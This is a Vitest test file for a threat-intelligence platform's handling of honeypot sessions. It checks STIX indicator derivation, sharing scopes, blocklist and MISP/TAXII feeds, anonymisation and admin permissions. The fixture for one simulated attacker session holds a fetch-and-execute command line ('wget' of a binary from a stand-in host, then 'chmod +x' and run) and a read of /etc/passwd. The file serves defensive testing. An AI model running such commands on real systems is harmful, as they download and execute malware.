import { createHash } from 'node:crypto';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { validateStixObject, type DecoyEvent } from '@cynex/core';
import { startTestHub, type TestHub } from '../../../test/harness.js';
import { createWorld, sessionEvents, SENSOR } from '../decoy-analysis/decoy-analysis.fixtures.js';
import { decoySessions } from '../decoy/decoy.table.js';
import { organisations } from '../orgs/orgs.table.js';
import { COLLECTIONS } from '../taxii/taxii.schema.js';
import { DecoyIntelSource } from './decoy-source.js';
import { ADDRESS_VALIDITY_DAYS } from './decoy-intel.js';

type Headers = Record<string, string>;
type Stix = Record<string, unknown> & { type: string; id: string };

const sha = (text: string) => createHash('sha256').update(text).digest('hex');
const md5 = (text: string) => createHash('md5').update(text).digest('hex');
const DROPPER = sha('#!/bin/sh\n# pretend Mirai dropper');
const UPLOADED = sha('pretend uploaded miner');
const FETCHED = 'http://203.0.113.50/bins/x86';
const ATTACKER = '198.51.100.77';
const GUESSER = '198.51.100.78';
const SCANNER = '198.51.100.79';
const LEARNER = '10.20.30.40';
const COMMUNITY_ATTACKER = '192.0.2.201';

describe(DecoyIntelSource.name, () => {
  let hub: TestHub;
  const h = {} as Record<'padmin' | 'anaA' | 'adminA' | 'anaB', Headers>;
  const orgs = {} as Record<'A' | 'B', string>;
  // Whole seconds, an hour ago: recent enough that the address indicators are live in the blocklists.
  const start = new Date(Math.floor((Date.now() - 3_600_000) / 1000) * 1000);

  const upload = async (events: DecoyEvent[]) => {
    const response = await hub.app.inject({
      method: 'POST',
      url: '/api/v1/decoy/events',
      headers: h.padmin,
      payload: { sensorId: SENSOR, events },
    });
    expect(response.statusCode, response.body).toBe(200);
  };
  const sessionPk = async (session: string) =>
    (await hub.database.db.select().from(decoySessions).where(eq(decoySessions.session, session)))[0]!.id;
  /** Every object the reader may see, whole, from the bundle export. */
  const bundle = async (who: keyof typeof h): Promise<Stix[]> => {
    const response = await hub.app.inject({ url: '/api/v1/intel/bundle', headers: h[who] });
    expect(response.statusCode, response.body).toBe(200);
    return response.json<{ objects?: Stix[] }>().objects ?? [];
  };
  const ofSession = (objects: Stix[], id: string) => objects.filter((o) => o.x_cynex_source === `decoy:${id}`);
  const listed = async (who: keyof typeof h) => {
    const response = await hub.app.inject({ url: '/api/v1/intel/objects?limit=500', headers: h[who] });
    expect(response.statusCode, response.body).toBe(200);
    return response.json<{ items: { stixId: string; tlp: string; scope: string; ownerOrgId: string }[] }>().items;
  };
  const blocklist = async (who: keyof typeof h) =>
    (await hub.app.inject({ url: '/api/v1/feeds/blocklist.txt', headers: h[who] })).body.split('\n');
  const mispHashes = async (who: keyof typeof h) =>
    (await hub.app.inject({ url: '/api/v1/feeds/misp/hashes.csv', headers: h[who] })).body;
  const taxiiIds = async (who: keyof typeof h) => {
    const response = await hub.app.inject({
      url: `/taxii2/api/collections/${COLLECTIONS.community}/objects/?limit=1000`,
      headers: { ...h[who], accept: 'application/taxii+json;version=2.1' },
    });
    expect(response.statusCode, response.body).toBe(200);
    return (response.json<{ objects?: { id: string }[] }>().objects ?? []).map((o) => o.id);
  };
  const setAnonymised = async (anonymiseSightings: boolean) => {
    const response = await hub.app.inject({
      method: 'PATCH',
      url: `/api/v1/orgs/${orgs.A}/intel-settings`,
      headers: h.adminA,
      payload: { anonymiseSightings },
    });
    expect(response.statusCode, response.body).toBe(200);
    await hub.services.intelSettings.settled();
    return response.json<{ anonymiseSightings: boolean; rederiving: boolean }>();
  };

  const pk: Record<'attack' | 'guess' | 'scan' | 'learner' | 'community', string> = {
    attack: '',
    guess: '',
    scan: '',
    learner: '',
    community: '',
  };

  beforeAll(async () => {
    hub = await startTestHub();
    orgs.A = (await hub.org('decoy-intel-a')).id;
    orgs.B = (await hub.org('decoy-intel-b')).id;
    await hub.user('ana@decoy-intel-a.example', { memberships: [{ orgId: orgs.A, role: 'analyst' }] });
    await hub.user('admin@decoy-intel-a.example', { memberships: [{ orgId: orgs.A, role: 'org_admin' }] });
    await hub.user('ana@decoy-intel-b.example', { memberships: [{ orgId: orgs.B, role: 'analyst' }] });
    await hub.user('root@decoy-intel.example', { platformAdmin: true });
    h.anaA = await hub.signIn('ana@decoy-intel-a.example');
    h.adminA = await hub.signIn('admin@decoy-intel-a.example');
    h.anaB = await hub.signIn('ana@decoy-intel-b.example');
    h.padmin = await hub.signIn('root@decoy-intel.example');

    // A's world keeps its sessions to A (organisation, AMBER); another of A's worlds shares with the community.
    await createWorld(hub, { id: 'dintel', ownerOrgId: orgs.A, scope: 'organisation', marking: 'AMBER' });
    await createWorld(hub, { id: 'dintelc', ownerOrgId: orgs.A, scope: 'community', marking: 'GREEN' });
    await upload(
      sessionEvents({
        world: 'dintel',
        session: 'di1',
        ip: ATTACKER,
        start,
        commands: ['uname -a', `wget ${FETCHED} -O /tmp/x86`, 'chmod +x /tmp/x86; /tmp/x86'],
        extra: [
          { kind: 'download', url: FETCHED, path: '/tmp/x86', sha256: DROPPER },
          { kind: 'file', action: 'uploaded', path: '/tmp/miner', sha256: UPLOADED },
          // The world's own file, read by the attacker: no indicator of anything.
          { kind: 'file', action: 'read', path: '/etc/passwd', sha256: sha('root:x:0:0') },
        ],
      }),
    );
    // Logs in with a guessed password and leaves; and a connection that never tried to log in.
    await upload(sessionEvents({ world: 'dintel', session: 'di2', ip: GUESSER, start }));
    await upload(
      sessionEvents({ world: 'dintel', session: 'di3', ip: SCANNER, start }).filter((e) => e.kind !== 'auth'),
    );
    // The operator's own test (or a training lab's learner) from a private address.
    await upload(sessionEvents({ world: 'dintel', session: 'di4', ip: LEARNER, start, commands: ['id'] }));
    await upload(sessionEvents({ world: 'dintelc', session: 'dc1', ip: COMMUNITY_ATTACKER, start, commands: ['id'] }));
    await hub.services.decoyAnalysis.drain();
    for (const [name, session] of [
      ['attack', 'di1'],
      ['guess', 'di2'],
      ['scan', 'di3'],
      ['learner', 'di4'],
      ['community', 'dc1'],
    ] as const)
      pk[name] = await sessionPk(session);
  }, 60_000);
  afterAll(async () => hub?.dispose());

  it("derives the attacker's address, files, URL, techniques and sightings of a session, all valid STIX", async () => {
    const objects = ofSession(await bundle('anaA'), pk.attack);
    for (const object of objects) expect(validateStixObject(object), object.id).toEqual([]);
    const indicators = objects.filter((o) => o.type === 'indicator');
    const byPattern = new Map(indicators.map((o) => [o.pattern as string, o]));
    expect([...byPattern.keys()].sort()).toEqual(
      [
        `[ipv4-addr:value = '${ATTACKER}']`,
        `[file:hashes.'SHA-256' = '${DROPPER}']`,
        `[file:hashes.'SHA-256' = '${UPLOADED}']`,
        `[url:value = '${FETCHED}']`,
      ].sort(),
    );
    const address = byPattern.get(`[ipv4-addr:value = '${ATTACKER}']`)!;
    expect(address).toMatchObject({
      indicator_types: ['malicious-activity'],
      pattern_type: 'stix',
      valid_from: start.toISOString(),
    });
    const lastSeen = new Date(start.getTime() + 8_000); // connect, login, 3 commands, 3 files, disconnect: 9 events
    expect(address.valid_until).toBe(new Date(lastSeen.getTime() + ADDRESS_VALIDITY_DAYS * 86_400_000).toISOString());
    expect(byPattern.get(`[file:hashes.'SHA-256' = '${DROPPER}']`)!.name).toBe('x86');
    expect(objects.find((o) => o.type === 'ipv4-addr')).toMatchObject({ value: ATTACKER });

    const sighting = objects.find((o) => o.type === 'sighting' && o.sighting_of_ref === address.id)!;
    expect(sighting).toMatchObject({
      count: 9,
      first_seen: start.toISOString(),
      last_seen: lastSeen.toISOString(),
    });
    const identity = objects.find((o) => o.id === (sighting.where_sighted_refs as string[])[0])!;
    expect(identity).toMatchObject({ type: 'identity', name: 'decoy-intel-a Inc.', identity_class: 'organization' });

    const patterns = objects.filter((o) => o.type === 'attack-pattern');
    const attackIds = patterns.map((p) => (p.external_references as { external_id: string }[])[0]!.external_id);
    expect(attackIds).toEqual(expect.arrayContaining(['T1082', 'T1105', 'T1110.001']));
    const indicates = objects.filter((o) => o.type === 'relationship' && o.relationship_type === 'indicates');
    expect(indicates.map((r) => r.target_ref).sort()).toEqual(patterns.map((p) => p.id).sort());
    expect(indicates.every((r) => r.source_ref === address.id)).toBe(true);
  });

  it('calls a session that only logged in anomalous; derives nothing from a scan or a private address', async () => {
    const all = await bundle('anaA');
    const guessed = ofSession(all, pk.guess).filter((o) => o.type === 'indicator');
    expect(guessed).toHaveLength(1);
    expect(guessed[0]).toMatchObject({
      pattern: `[ipv4-addr:value = '${GUESSER}']`,
      indicator_types: ['anomalous-activity'],
    });
    expect(ofSession(all, pk.scan)).toEqual([]);
    expect(ofSession(all, pk.learner)).toEqual([]);
  });

  it("gives the objects the session's sharing: another organisation sees none of them anywhere", async () => {
    const own = await listed('anaA');
    const mine = new Set(ofSession(await bundle('anaA'), pk.attack).map((o) => o.id));
    const rows = own.filter((row) => mine.has(row.stixId));
    expect(rows).toHaveLength(mine.size);
    expect(rows.every((r) => r.tlp === 'AMBER' && r.scope === 'organisation' && r.ownerOrgId === orgs.A)).toBe(true);
    expect(await blocklist('anaA')).toEqual(expect.arrayContaining([ATTACKER, FETCHED, DROPPER]));
    expect(await mispHashes('anaA')).toContain(md5(ATTACKER));

    const theirs = await listed('anaB');
    expect(theirs.filter((row) => mine.has(row.stixId))).toEqual([]);
    expect(ofSession(await bundle('anaB'), pk.attack)).toEqual([]);
    expect(await blocklist('anaB')).not.toContain(ATTACKER);
    expect(await blocklist('anaB')).not.toContain(DROPPER);
    expect(await mispHashes('anaB')).not.toContain(md5(ATTACKER));
    const taxii = await taxiiIds('anaB');
    expect(taxii.filter((id) => mine.has(id))).toEqual([]);

    // The community world's session reaches B through the same channels.
    const shared = ofSession(await bundle('anaB'), pk.community);
    expect(shared.some((o) => o.type === 'indicator')).toBe(true);
    expect(await blocklist('anaB')).toContain(COMMUNITY_ATTACKER);
    expect(taxii).toEqual(expect.arrayContaining(shared.map((o) => o.id)));
  });

  it('anonymises the sightings at the owner organisation’s choice, in sessions and cases, and back', async () => {
    const named = (objects: Stix[]) => objects.filter((o) => o.type === 'identity').map((o) => o.name);
    expect(named(ofSession(await bundle('anaA'), pk.attack))).toEqual(['decoy-intel-a Inc.']);

    const changed = await setAnonymised(true);
    expect(changed.anonymiseSightings).toBe(true);
    expect(changed.rederiving).toBe(true);
    const all = await bundle('anaA');
    const mine = all.filter((o) => o.x_cynex_source !== undefined);
    expect(mine.some((o) => String(o.x_cynex_source).startsWith('case:'))).toBe(true);
    expect(JSON.stringify(mine)).not.toContain('decoy-intel-a');
    for (const source of new Set(mine.map((o) => String(o.x_cynex_source)))) {
      const objects = mine.filter((o) => o.x_cynex_source === source);
      const identities = objects.filter((o) => o.type === 'identity');
      expect(identities, source).toEqual([
        expect.objectContaining({ name: 'a cynex member', x_cynex_name_ja: 'cynex 会員' }),
      ]);
      for (const sighting of objects.filter((o) => o.type === 'sighting')) {
        expect(sighting.where_sighted_refs).toEqual([identities[0]!.id]);
      }
      for (const object of objects) {
        if ('created_by_ref' in object) expect(object.created_by_ref).toBe(identities[0]!.id);
        expect(validateStixObject(object)).toEqual([]);
      }
    }
    const settings = await hub.app.inject({ url: `/api/v1/orgs/${orgs.A}/intel-settings`, headers: h.anaA });
    expect(settings.json()).toEqual({ orgId: orgs.A, anonymiseSightings: true });
    // B's MISP feed: the community session's event names no organisation either.
    const manifest = await hub.app.inject({ url: '/api/v1/feeds/misp/manifest.json', headers: h.anaB });
    const headers = Object.values(manifest.json<Record<string, { info: string; Orgc: { name: string } }>>());
    const event = headers.find((e) => e.info.includes(pk.community))!;
    expect(event.Orgc.name).toBe('a cynex member');
    expect(manifest.body).not.toContain('decoy-intel-a');

    await setAnonymised(false);
    expect(named(ofSession(await bundle('anaA'), pk.attack))).toEqual(['decoy-intel-a Inc.']);
    expect(await hub.services.derived.reconcile()).toEqual({ refreshed: 0, removed: 0 });
  });

  it('reconcile catches up on a choice changed behind its back and on a session it never derived', async () => {
    await hub.database.db.update(organisations).set({ anonymiseSightings: true }).where(eq(organisations.id, orgs.A));
    const report = await hub.services.derived.reconcile();
    expect(report.refreshed).toBeGreaterThanOrEqual(3);
    expect(ofSession(await bundle('anaA'), pk.attack).filter((o) => o.type === 'identity')).toEqual([
      expect.objectContaining({ name: 'a cynex member' }),
    ]);
    await hub.database.db.update(organisations).set({ anonymiseSightings: false }).where(eq(organisations.id, orgs.A));
    await hub.services.derived.reconcile();

    const { stixObjects } = await import('../intel/intel.table.js');
    const { sql } = await import('drizzle-orm');
    await hub.database.db
      .delete(stixObjects)
      .where(sql`${stixObjects.object} ->> 'x_cynex_source' = ${`decoy:${pk.guess}`}`);
    expect(await hub.services.derived.reconcile()).toEqual({ refreshed: 1, removed: 0 });
    expect(ofSession(await bundle('anaA'), pk.guess).some((o) => o.type === 'indicator')).toBe(true);
  });

  it('lets members read the choice and only admins change it, with bad input refused and the change audited', async () => {
    const patch = (headers: Headers, payload: unknown) =>
      hub.app.inject({
        method: 'PATCH',
        url: `/api/v1/orgs/${orgs.A}/intel-settings`,
        headers,
        payload: payload as object,
      });
    expect((await patch(h.anaA, { anonymiseSightings: true })).statusCode).toBe(403);
    expect((await patch(h.anaB, { anonymiseSightings: true })).statusCode).toBe(403);
    const bad = await patch(h.adminA, { anonymiseSightings: 'yes' });
    expect(bad.statusCode).toBe(400);
    expect(bad.body).toContain('anonymiseSightings');
    expect((await patch(h.adminA, { anonymiseSightings: false, extra: 1 })).statusCode).toBe(400);
    expect((await hub.app.inject({ url: `/api/v1/orgs/${orgs.A}/intel-settings`, headers: h.anaB })).statusCode).toBe(
      403,
    );
    await setAnonymised(true);
    await setAnonymised(false);
    const audit = await hub.app.inject({ url: '/api/v1/audit?action=org.intel_settings_update', headers: h.padmin });
    expect(audit.statusCode, audit.body).toBe(200);
    const entries = audit.json<{ items: { targetId: string; details: { anonymiseSightings: boolean } }[] }>().items;
    expect(entries.slice(0, 2).map((e) => [e.targetId, e.details.anonymiseSightings])).toEqual([
      [orgs.A, false],
      [orgs.A, true],
    ]);
  });
});
